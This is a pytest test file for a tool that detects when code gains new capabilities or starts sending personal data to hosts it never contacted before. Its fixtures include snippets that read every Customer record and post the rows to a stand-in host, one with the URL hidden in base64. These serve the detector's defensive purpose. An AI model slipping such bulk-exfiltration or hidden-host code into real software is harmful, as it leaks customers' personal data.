"""What code can do that it could not: by folder, by revision, by manifest; personal data that meet a new host."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from typer.testing import CliRunner

from waybill.cli.app import app
from waybill.exposure import FAMILIES, Survey, drift, survey
from waybill.exposure.code.capabilities import Drift
from waybill.exposure.deployed.manifest import Approved, statement_of, write_manifest
from waybill.exposure.deployed.tree import contents_of
from waybill.model.errors import InputError
from waybill.model.register import Place, RegisterSnapshot
from waybill.model.words import Severity

NOW = datetime(2026, 3, 1, tzinfo=UTC)
MAIL = 'import requests\n\n\ndef ping():\n    requests.post("https://known.example/ping", json={"alive": 1})\n'
SENDS = (
    "import requests\nfrom shop.models import Customer\n\n\ndef sync():\n    rows = list(Customer.objects.values())\n"
    '    requests.post("https://HOST/in", json=rows)\n'
)


def write(folder: Path, **files: str) -> Path:
    for name, content in files.items():
        path = folder / f"{name}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return folder


def looked(old: str | Path, new: Path, register: RegisterSnapshot | None = None) -> Survey:
    things = list(drift.read(str(old), str(new)))
    return survey(things, FAMILIES["code"].checks(), register or RegisterSnapshot(), NOW)


def told(old: str | Path, new: Path) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for one in looked(old, new).findings:
        found.setdefault(one.rule_id, []).append(one.sentence.en)
    return found


def test_nothing_is_new(tmp_path: Path) -> None:
    old = write(tmp_path / "old", mail=MAIL, sync=SENDS)
    assert looked(old, write(tmp_path / "new", mail=MAIL, sync="# moved\n\n\n" + SENDS)).findings == []


def test_personal_data_meet_a_new_host(tmp_path: Path) -> None:
    old = write(tmp_path / "old", mail=MAIL)
    new = write(tmp_path / "new", mail=MAIL, sync=SENDS.replace("HOST", "new.example"))
    found = looked(old, new).findings
    (gravest,) = [one for one in found if one.rule_id == "code-new-meeting"]
    assert gravest.severity is Severity.CRITICAL
    steps = [part.value for part in gravest.parts if part.name.startswith("step")]
    assert steps[0] == "sync.py:6 reads Customer"
    assert steps[-1].startswith("sync.py:7 sends them")


def test_a_host_that_was_known_is_no_new_one(tmp_path: Path) -> None:
    old = write(tmp_path / "old", mail=MAIL)
    found = told(old, write(tmp_path / "new", mail=MAIL, sync=SENDS.replace("HOST", "known.example")))
    assert "code-new-meeting" not in found
    assert any("reads in bulk Customer" in one for one in found["code-new-capability"])
    assert any("known.example. Before, mail.py could." in one for one in found["code-new-capability"])


def test_a_host_that_is_hidden_is_a_new_one(tmp_path: Path) -> None:
    hidden = SENDS.replace('"https://HOST/in"', 'base64.b64decode("aHR0cHM6Ly9uZXcuZXhhbXBsZS9pbg==").decode()')
    new = write(tmp_path / "new", sync="import base64\n" + hidden)
    assert "which the code hides" in told(write(tmp_path / "old", mail=MAIL), new)["code-new-meeting"][0]


def test_what_the_register_approves(tmp_path: Path) -> None:
    approved = RegisterSnapshot(places=(Place(id="crm", name="CRM", patterns=("new.example",), approved_egress=True),))
    new = write(tmp_path / "new", sync=SENDS.replace("HOST", "new.example"))
    found = looked(write(tmp_path / "old", mail=MAIL), new, approved)
    assert "code-new-meeting" not in {one.rule_id for one in found.findings}


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ('import subprocess\nsubprocess.run(["tar", "c"])\n', "starts a program by subprocess.run tar"),
        ("from cryptography.fernet import Fernet\n", "uses the cryptography of cryptography"),
        ('import requests\nrequests.get("https://fresh.example/")\n', "names the host fresh.example"),
    ],
)
def test_capabilities(tmp_path: Path, line: str, said: str) -> None:
    new = write(tmp_path / "new", a=line)
    (one,) = told(write(tmp_path / "old", a="x = 1\n"), new)["code-new-capability"]
    assert said in one
    assert "Nothing in the program could before" in one


def test_since_a_revision(tmp_path: Path) -> None:
    def git(*arguments: str) -> None:
        subprocess.run(
            ["git", "-C", str(tmp_path), "-c", "user.name=a", "-c", "user.email=a@b", *arguments], check=True
        )

    write(tmp_path / "shop", mail=MAIL)
    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "first")
    write(tmp_path / "shop", sync=SENDS.replace("HOST", "new.example"))
    assert "code-new-meeting" in told("HEAD", tmp_path / "shop")
    with pytest.raises(InputError):
        list(drift.read("no-such-revision", str(tmp_path / "shop")))


def test_since_a_manifest(tmp_path: Path) -> None:
    shop = write(tmp_path / "shop", mail=MAIL)
    key = Ed25519PrivateKey.generate()
    manifest = tmp_path / "shop.json"
    manifest.write_bytes(write_manifest(statement_of(contents_of(shop).digests, Approved(made="")), (key,)))
    assert looked(manifest, shop).findings == []
    write(shop, sync=SENDS.replace("HOST", "new.example"))
    found = looked(manifest, shop)
    assert "code-new-meeting" in {one.rule_id for one in found.findings}
    assert any("1 changed or new files" in gap.why for gap in found.gaps)


def test_what_could_not_be_read_is_said(tmp_path: Path) -> None:
    old = write(tmp_path / "old", broken="import requests\nrequests.post((\n")
    things = list(drift.read(str(old), str(write(tmp_path / "new", mail=MAIL))))
    assert any(not isinstance(one, Drift) and one.why.startswith("before: ") for one in things)


def test_command(tmp_path: Path) -> None:
    old, new = write(tmp_path / "old", mail=MAIL), write(tmp_path / "new", mail=MAIL)
    assert CliRunner().invoke(app, ["survey", "drift", str(old), str(new)]).exit_code == 0
    write(new, sync=SENDS.replace("HOST", "new.example"))
    result = CliRunner().invoke(app, ["survey", "drift", str(old), str(new)])
    assert result.exit_code == 1
    assert "new.example" in result.stdout


def test_what_is_kept(tmp_path: Path) -> None:
    old, new = write(tmp_path / "old", mail=MAIL), write(tmp_path / "new", mail=MAIL)
    write(new, sync=SENDS.replace("HOST", "new.example"))
    command = ["survey", "drift", str(old), str(new), "--data", str(tmp_path / "data")]
    assert CliRunner().invoke(app, command).exit_code == 1
    changes = CliRunner().invoke(app, ["survey", "changes", "--data", str(tmp_path / "data"), "--since", "2020-01-01"])
    assert "new.example" in changes.stdout.replace("\n", "")
    (new / "sync.py").unlink()
    assert CliRunner().invoke(app, command).exit_code == 0
